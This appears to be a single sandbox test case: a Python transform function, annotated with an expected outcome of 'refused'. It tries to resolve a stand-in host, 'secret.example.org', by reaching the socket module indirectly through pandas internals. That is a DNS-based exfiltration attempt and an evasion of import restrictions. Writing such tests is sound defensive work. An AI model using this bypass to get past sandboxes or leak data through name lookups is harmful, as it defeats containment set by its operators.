# Tries: sends the secret as a name to be resolved.
# Expected: refused (also fine: killed, limited).
# expect: {"name": "resolve_name", "category": "network", "outcome": "refused", "also": ["killed", "limited"], "checks": ["no_connection"]}
def transform(data, params):
    sys = pd.io.common.os.sys
    return go.Figure(layout_title_text=str(sys.modules['socket'].getaddrinfo('secret.example.org', 80)))
